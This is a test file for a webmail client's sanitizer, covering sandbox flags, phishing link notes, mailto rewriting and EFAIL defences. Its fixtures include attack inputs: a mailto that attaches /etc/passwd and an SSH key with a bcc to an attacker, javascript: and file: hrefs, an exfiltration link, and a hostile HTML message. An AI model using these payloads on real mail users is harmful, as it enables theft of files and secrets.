// @vitest-environment jsdom
/**
 * mail/sanitize.ts + mail/links.ts: what message HTML becomes in its sandboxed frame,
 * link by link (issue 3: EFAIL gadgets, "Mailto: Me Your Secrets", UI redressing), and
 * that nothing in the message can open or load anything by itself.
 */
import { describe, expect, it } from 'vitest'
import { disabledLinkTitle, hostShownIn } from '../../../src/web/mail/links'
import { FRAME_SANDBOX, sanitizeHtmlPart, type FrameOptions } from '../../../src/web/mail/sanitize'

const APP = 'https://mail.cachet.test'
const OPTS: FrameOptions = { allowRemote: false, linksFollowable: true, appOrigin: APP }

function frame(html: string, opts: Partial<FrameOptions> = {}) {
  const r = sanitizeHtmlPart(html, [], { ...OPTS, ...opts })
  return { ...r, doc: new DOMParser().parseFromString(r.srcdoc, 'text/html') }
}

const link = (html: string, opts: Partial<FrameOptions> = {}) => {
  const { doc, disabledLinks } = frame(html, opts)
  const a = doc.querySelector('a, area')
  if (!a) throw new Error('no link left')
  return { a, doc, disabledLinks }
}

describe('the frame sandbox', () => {
  it('allows only popups from a click, escaping the sandbox: no scripts, same origin, forms or top navigation', () => {
    expect(FRAME_SANDBOX).toBe('allow-popups allow-popups-to-escape-sandbox')
    for (const never of ['allow-scripts', 'allow-same-origin', 'allow-forms', 'allow-top-navigation', 'allow-modals', 'allow-downloads']) expect(FRAME_SANDBOX).not.toContain(never)
  })
})

describe('web links', () => {
  it('keeps an https link, opening in a new tab with no opener and no referrer, its URL in title', () => {
    const { a } = link('<a href="https://shop.example/orders?id=7">Your order</a>')
    expect(a.getAttribute('href')).toBe('https://shop.example/orders?id=7')
    expect(a.getAttribute('target')).toBe('_blank')
    expect(a.getAttribute('rel')).toBe('noopener noreferrer')
    expect(a.getAttribute('title')).toBe('https://shop.example/orders?id=7')
    expect(a.textContent).toBe('Your order')
  })

  it('leaves an http link as the sender wrote it (only image loads are upgraded to https)', () => {
    const { doc } = frame('<a href="http://127.0.0.1:8123/path">plain</a><img src="http://img.example/a.png">')
    expect(doc.querySelector('a')!.getAttribute('href')).toBe('http://127.0.0.1:8123/path')
    expect(doc.querySelector('img')!.getAttribute('src')).toBe('https://img.example/a.png')
  })

  it("overrides the sender's target, rel and title: no _top, no opener, the real destination shown", () => {
    const { a } = link('<a href="https://a.example/" target="_top" rel="opener" title="Verified by Cachet">x</a>')
    expect(a.getAttribute('target')).toBe('_blank')
    expect(a.getAttribute('rel')).toBe('noopener noreferrer')
    expect(a.getAttribute('title')).toBe('https://a.example/')
  })

  it('handles image-map areas like links', () => {
    const { a } = link('<map name="m"><area shape="rect" coords="0,0,9,9" href="https://map.example/x"></map>')
    expect(a.tagName).toBe('AREA')
    expect(a.getAttribute('target')).toBe('_blank')
    expect(a.getAttribute('rel')).toBe('noopener noreferrer')
    expect(a.getAttribute('title')).toBe('https://map.example/x')
  })

  it('removes ping, download and referrerpolicy from links', () => {
    const { a } = link('<a href="https://a.example/" ping="https://track.example/p" download="x.exe" referrerpolicy="unsafe-url">x</a>')
    expect(a.hasAttribute('ping')).toBe(false)
    expect(a.hasAttribute('download')).toBe(false)
    expect(a.hasAttribute('referrerpolicy')).toBe(false)
  })
})

describe('phishing: the visible text names another host', () => {
  const note = (doc: Document) => doc.body.textContent?.match(/\(link goes to [^)]*\)/)?.[0] ?? null

  it('writes the real host next to a link whose text is a URL of another host', () => {
    const { a, doc } = link('<a href="https://bank.example.evil.test/login">https://bank.example/login</a>')
    expect(a.getAttribute('title')).toBe('https://bank.example.evil.test/login')
    expect(note(doc)).toBe('(link goes to bank.example.evil.test)')
  })

  it('does so for a bare domain as text and for a URL inside a sentence', () => {
    expect(note(frame('<a href="https://evil.test/">www.paypal.com</a>').doc)).toBe('(link goes to evil.test)')
    expect(note(frame('<a href="https://evil.test/">Sign in at https://paypal.com now</a>').doc)).toBe('(link goes to evil.test)')
  })

  it('shows the punycode of a look-alike host', () => {
    expect(note(frame('<a href="https://xn--pypal-4ve.com/">paypal.com</a>').doc)).toBe('(link goes to xn--pypal-4ve.com)')
  })

  it('flags user:password@ before the host, a classic disguise', () => {
    expect(note(frame('<a href="https://bank.example@evil.test/">Open your account</a>').doc)).toBe('(link goes to evil.test)')
  })

  it('adds nothing when the text names the same site (www., subdomain) or is not a URL', () => {
    expect(note(frame('<a href="https://www.example.com/a">example.com</a>').doc)).toBeNull()
    expect(note(frame('<a href="https://news.example.com/a">https://example.com/news</a>').doc)).toBeNull()
    expect(note(frame('<a href="https://evil.test/">Read more</a>').doc)).toBeNull()
    expect(hostShownIn('e.g. 1.5 times')).toBeNull()
    expect(hostShownIn('report-2026.pdf')).toBeNull()
    expect(hostShownIn('invoice.zip')).toBe('invoice.zip')
    expect(hostShownIn('Visit https://Example.COM/x')).toBe('example.com')
  })
})

describe('mailto: links open Cachet compose with to, cc, subject and body only', () => {
  it('rewrites the href to the app compose route in a new tab, dropping attach, bcc, from and in-reply-to', () => {
    const { a } = link('<a href="mailto:alice@example.com?cc=carol@example.com&subject=Hello%20there&body=Line%201%0D%0ALine%202&attach=/etc/passwd&attachment=~/.ssh/id_rsa&bcc=spy@evil.test&from=ceo@example.com&in-reply-to=%3Cx@y%3E">Write to Alice</a>')
    const href = new URL(a.getAttribute('href')!)
    expect(href.origin).toBe(APP)
    expect(href.pathname).toBe('/compose')
    expect([...href.searchParams.keys()].sort()).toEqual(['body', 'cc', 'subject', 'to'])
    expect(href.searchParams.get('to')).toBe('alice@example.com')
    expect(href.searchParams.get('cc')).toBe('carol@example.com')
    expect(href.searchParams.get('subject')).toBe('Hello there')
    expect(href.searchParams.get('body')).toBe('Line 1\nLine 2')
    expect(a.getAttribute('href')).not.toMatch(/passwd|id_rsa|spy@|ceo@|attach|bcc/i)
    expect(a.getAttribute('target')).toBe('_blank')
    expect(a.getAttribute('rel')).toBe('noopener noreferrer')
    expect(a.getAttribute('title')).toBe('mailto:alice@example.com (cc: carol@example.com)')
  })

  it('says whom a mailto: link really writes to when its text is another address', () => {
    const { doc } = frame('<a href="mailto:attacker@evil.test">ceo@example.com</a>')
    expect(doc.body.textContent).toContain('(writes to attacker@evil.test)')
    expect(frame('<a href="mailto:Ceo@Example.com">ceo@example.com</a>').doc.body.textContent).not.toContain('writes to')
  })
})

describe('other schemes are not links', () => {
  for (const href of ['javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', 'cid:part1@example', 'tel:+15551234', 'vbscript:msgbox', 'ftp://files.example/x', '/mail/INBOX', '#top', 'relative/path', 'https//missing-colon.example']) {
    it(`removes href=${JSON.stringify(href)} and keeps the text`, () => {
      const { doc } = frame(`<p><a href="${href.replace(/"/g, '&quot;')}">the text</a></p>`)
      const a = doc.querySelector('a')
      expect(a?.hasAttribute('href') ?? false).toBe(false)
      expect(doc.querySelector('[href]')).toBeNull()
      expect(doc.body.textContent).toContain('the text')
    })
  }
})

describe('content without integrity (decrypted from AES-CBC, EFAIL gadgets)', () => {
  it('has no followable link: every href removed, text kept, counted, title says why', () => {
    const { doc, disabledLinks } = frame('<p><a href="https://exfil.example/?leak">Quarterly report</a> and <a href="mailto:x@evil.test?body=secret">reply</a> <a href="http://h.example/">h</a></p>', { linksFollowable: false })
    expect(doc.querySelector('[href]')).toBeNull()
    expect(disabledLinks).toBe(3)
    expect(doc.body.textContent).toContain('Quarterly report')
    for (const a of doc.querySelectorAll('a')) {
      expect(a.getAttribute('title')).toBe(disabledLinkTitle())
      expect(a.getAttribute('title')).toMatch(/^Link disabled: /)
      expect(a.hasAttribute('target')).toBe(false)
    }
    expect(doc.body.innerHTML).not.toContain('exfil.example')
  })

  it('counts nothing when links are followable', () => {
    expect(frame('<a href="https://a.example/">a</a>').disabledLinks).toBe(0)
  })
})

describe('nothing opens or loads without a click', () => {
  const hostile = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
<base href="https://evil.test/base/" target="_blank">
<link rel="stylesheet" href="https://evil.test/s.css">
</head><body>
<form action="https://evil.test/form" target="_blank"><input name="q"><button formaction="https://evil.test/fa">Go</button></form>
<a href="https://evil.test/ping" ping="https://evil.test/pinged">ping</a>
<script>window.open('https://evil.test/open')</script>
<iframe src="https://evil.test/frame"></iframe>
<svg><a xlink:href="https://evil.test/svg"><text>svg</text></a></svg>
</body></html>`

  it('strips meta refresh, base, link, form and its controls, script, iframe and svg', () => {
    const { doc } = frame(hostile)
    expect(doc.querySelectorAll('meta[http-equiv=refresh i], base, link, form, input, button, script, iframe, svg').length).toBe(0)
    expect(doc.querySelectorAll('[ping], [action], [formaction]').length).toBe(0)
    expect(doc.documentElement.innerHTML).not.toMatch(/evil\.test\/(refresh|base|s\.css|form|fa|pinged|open|frame|svg)/)
  })

  it('puts our CSP first (no loads but data: images and inline styles, no form actions) and no referrer', () => {
    const { doc } = frame(hostile)
    const first = doc.head.firstElementChild?.nextElementSibling
    expect(first?.getAttribute('http-equiv')).toBe('Content-Security-Policy')
    const csp = first?.getAttribute('content') ?? ''
    expect(csp).toContain("default-src 'none'")
    expect(csp).toContain("form-action 'none'")
    expect(csp).toContain('img-src data: cid:;')
    expect(doc.querySelector('meta[name=referrer]')?.getAttribute('content')).toBe('no-referrer')
    // The only meta elements are ours.
    expect(doc.querySelectorAll('meta').length).toBe(3)
  })

  it('leaves the one real link in the hostile message a plain click-only link', () => {
    const { doc } = frame(hostile)
    const links = [...doc.querySelectorAll('[href]')]
    expect(links.map((l) => l.getAttribute('href'))).toEqual(['https://evil.test/ping'])
    expect(links[0]!.getAttribute('target')).toBe('_blank')
    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer')
  })
})

describe('link notes in the app language (issue 14)', () => {
  it('says where a link goes, and why it is disabled, in German when German is active', async () => {
    const { i18n, loadLocale } = await import('../../../src/web/i18n')
    await loadLocale('de')
    i18n.global.locale.value = 'de'
    try {
      expect(frame('<a href="https://evil.test/">www.paypal.com</a>').doc.body.textContent).toContain('(Link führt zu evil.test)')
      const { doc } = frame('<a href="https://h.example/">h</a>', { linksFollowable: false })
      expect(doc.querySelector('a')!.getAttribute('title')).toMatch(/^Link deaktiviert: /)
    } finally {
      i18n.global.locale.value = 'en'
    }
  })
})
